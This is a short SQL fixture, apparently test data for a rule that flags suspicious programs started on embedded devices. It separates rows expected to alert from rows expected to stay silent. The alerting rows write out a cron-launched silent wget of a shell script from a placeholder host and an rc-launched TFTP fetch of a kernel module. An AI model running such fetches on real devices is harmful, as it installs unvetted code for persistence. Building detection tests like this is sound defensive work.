-- fires 2: from cron and by TFTP
INSERT INTO started (program, arguments, mechanism) VALUES
  ('wget', '-q http://update.example/x.sh', 'cron'), ('tftp', '-g -r art.ko 192.168.1.10', 'rc');
-- silent: TLS, the device itself, and an address that is not known
INSERT INTO started (program, arguments, mechanism) VALUES
  ('wget', '-q https://update.example/x.sh', 'cron'), ('curl', 'http://127.0.0.1/ping', 'cron'),
  ('wget', '$URL', 'cron'), ('tftp', '-p -l log 10.0.0.1', 'rc');
